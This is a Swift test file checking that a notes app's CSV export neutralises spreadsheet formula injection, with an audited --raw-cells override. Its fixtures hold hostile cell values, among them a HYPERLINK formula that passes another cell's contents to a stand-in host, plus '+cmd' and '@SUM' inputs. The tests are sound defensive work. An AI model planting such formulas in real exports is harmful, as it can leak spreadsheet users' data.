import CRDT
@testable import Export
import Formats
import Foundation
import Store
import Testing

/// CSV cells that a spreadsheet would run as formulas are written inert (OWASP's
/// rule: a leading single quote) unless `--raw-cells`; numbers stay numbers.
@Suite struct FormulaInjectionTests {
    static let hyperlink = "=HYPERLINK(\"http://x\"&B2,\"y\")"
    /// (note id, title, body): each title or body starts like a formula.
    static let hostile: [(id: RecordID, title: String, body: String)] = [
        (Fixture.id("f001"), hyperlink, "plain"),
        (Fixture.id("f002"), "+cmd", "@SUM(A1)"),
        (Fixture.id("f003"), "-2+3", "\tx"),
        (Fixture.id("f004"), "carriage return", "\rx"),
        (Fixture.id("f005"), "-3.5", "=1+1"),
    ]

    static func addHostileNotes(_ fixture: Fixture) throws {
        for (id, title, body) in hostile {
            var input = Note.Input()
            input.title = title
            input.body = body
            input.area = "Formula Row"
            input.occurredAt = "2026-11-30T09:00"
            input.consent = "given"
            input.measures = [(name: "delta", value: id == Fixture.id("f005") ? "-3.5" : "-3")]
            try fixture.store.commit(try Note.changes(input, for: id, creating: true, nowSeconds: 0))
        }
    }

    /// The notes and note_measures tables of a CSV export, parsed back, keyed by note id (hex).
    static func exported(_ fixture: Fixture, options: ExportOptions) throws -> (notes: [String: [String]], measures: [String: String]) {
        let out = fixture.path("csv-\(UUID().uuidString)")
        try fixture.exporter.write(format: .csv, to: out, filter: ExportFilter(area: "Formula Row"), options: options)
        let notes = try CSVReader.records(readText(out + "/notes.csv")).map(\.fields).dropFirst()
        let measures = try CSVReader.records(readText(out + "/note_measures.csv")).map(\.fields).dropFirst()
        return (Dictionary(uniqueKeysWithValues: notes.map { ($0[0], $0) }),
                Dictionary(uniqueKeysWithValues: measures.map { ($0[0], $0[2]) }))
    }

    @Test func cellsStartingLikeAFormulaAreWrittenWithALeadingQuote() throws {
        try Fixture.with { fixture throws in
            try Self.addHostileNotes(fixture)
            let (notes, measures) = try Self.exported(fixture, options: ExportOptions())
            func cells(_ id: RecordID) throws -> (title: String, body: String) {
                let row = try #require(notes[id.hex])
                return (row[7], row[8])
            }
            #expect(try cells(Fixture.id("f001")) == ("'" + Self.hyperlink, "plain"))
            #expect(try cells(Fixture.id("f002")) == ("'+cmd", "'@SUM(A1)"))
            #expect(try cells(Fixture.id("f003")) == ("'-2+3", "'\tx"))
            #expect(try cells(Fixture.id("f004")) == ("carriage return", "'\rx"))
            // A cell that is wholly a number is no formula: it stays a number.
            #expect(try cells(Fixture.id("f005")) == ("-3.5", "'=1+1"))
            #expect(measures[Fixture.id("f001").hex] == "-3")
            #expect(measures[Fixture.id("f005").hex] == "-3.5")
        }
    }

    @Test func rawCellsWritesCellsAsStoredAndIsAudited() throws {
        try Fixture.with { fixture throws in
            try Self.addHostileNotes(fixture)
            let (notes, measures) = try Self.exported(fixture, options: ExportOptions(rawCells: true))
            for (id, title, body) in Self.hostile {
                #expect(notes[id.hex].map { [$0[7], $0[8]] } == [title, body])
            }
            #expect(measures[Fixture.id("f001").hex] == "-3")
            let audit = try AuditTrail.entries(in: fixture.store)
            #expect(audit.last?.counts.hasSuffix(" cells=raw") == true, "\(audit)")
        }
    }

    @Test(arguments: [("-3", true), ("+2.5", true), ("-0.125", true), ("12", true), ("-", false), ("-.", false), ("-1.2.3", false),
                      ("-2+3", false), ("-1e5", false), ("", false)])
    func aDecimalNumberIsRecognised(_ pair: (String, Bool)) {
        #expect(CSVTable.isDecimal(pair.0) == pair.1)
    }

    @Test func theCLIExportsInertCellsByDefaultAndRawWithTheFlag() throws {
        try Fixture.with { fixture throws in
            try Self.addHostileNotes(fixture)
            let inert = fixture.path("inert")
            let run = try ExportCLITests.run(fixture, "export", "csv", "--out", inert, "--area", "Formula Row")
            #expect(run.status == 0, "\(run)")
            #expect(try readText(inert + "/notes.csv").contains(",\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"y\"\")\","))
            let raw = fixture.path("raw")
            let rawRun = try ExportCLITests.run(fixture, "export", "csv", "--out", raw, "--area", "Formula Row", "--raw-cells")
            #expect(rawRun.status == 0, "\(rawRun)")
            #expect(try readText(raw + "/notes.csv").contains(",\"=HYPERLINK(\"\"http://x\"\"&B2,\"\"y\"\")\","))
            let audit = try ExportCLITests.run(fixture, "audit", "--format", "json")
            let events = try #require(try JSONSerialization.jsonObject(with: Data(audit.stdout.utf8)) as? [[String: Any]])
            #expect(events.map { ($0["counts"] as? String)?.hasSuffix("cells=raw") == true } == [false, true])
            ExportCLITests.expectOneLineFailure(try ExportCLITests.run(fixture, "export", "json", "--out", fixture.path("x.ndjson"), "--raw-cells"),
                                                status: 2, ["--raw-cells applies to csv only"])
            let help = try ExportCLITests.run(fixture, "export", "--help")
            #expect(help.stdout.contains("--raw-cells") && help.stdout.contains("wholly a"), "\(help)")
        }
    }
}
